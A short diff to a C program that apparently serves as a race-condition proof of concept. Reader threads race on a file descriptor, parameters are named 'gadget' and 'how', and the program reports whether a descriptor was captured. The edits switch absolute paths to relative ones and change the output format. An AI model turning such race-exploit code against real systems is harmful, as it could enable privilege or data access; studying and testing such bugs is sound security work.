@@ -58,9 +58,9 @@ int main(int argc, char **argv)
 	char b[64] = "";
 	pthread_t t[THREADS];
 	gadget = strtoul(argv[1], 0, 0), how = strtoul(argv[2], 0, 0);
-	int f = open("/path", O_RDWR | O_CREAT | O_TRUNC, 0600);
+	int f = open("path", O_RDWR | O_CREAT | O_TRUNC, 0600);
 	memset(b, 0, sizeof b);
-	if (ftruncate(f, 4096) || pwrite(f, argv[4], strlen(argv[4]), 0) < 0 || dup2(open("/", O_RDONLY | O_DIRECTORY), DIR) != DIR)
+	if (ftruncate(f, 4096) || pwrite(f, argv[4], strlen(argv[4]), 0) < 0 || dup2(open(".", O_RDONLY | O_DIRECTORY), DIR) != DIR)
 		return 1;
 	for (int i = 0; i < THREADS; i++)
 		pthread_create(&t[i], 0, reader, &f);
@@ -71,8 +71,8 @@ int main(int argc, char **argv)
 	stop = 1;
 	for (int i = 0; i < THREADS; i++)
 		pthread_join(t[i], 0);
-	if (got >= 0 && read(got, b, sizeof b - 1) > 0)
-		printf("read %s\n", b);
+	if (got >= 0)
+		printf("read %zd %s\n", read(got, b, sizeof b - 1), b);
 	else
 		puts(proc < 0 || tried < 100 ? "not tried" : "no");
 	return 0;
